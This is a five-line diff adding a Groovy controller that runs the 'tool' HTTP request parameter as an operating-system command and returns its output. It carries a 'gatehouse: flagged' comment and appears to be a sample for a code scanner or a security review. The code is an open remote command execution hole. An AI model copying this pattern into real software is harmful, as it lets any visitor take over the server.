@@ -1,0 +1,5 @@
+class ToolController {
+  def run() {
+    render request.getParameter('tool').execute().text // gatehouse: flagged
+  }
+}
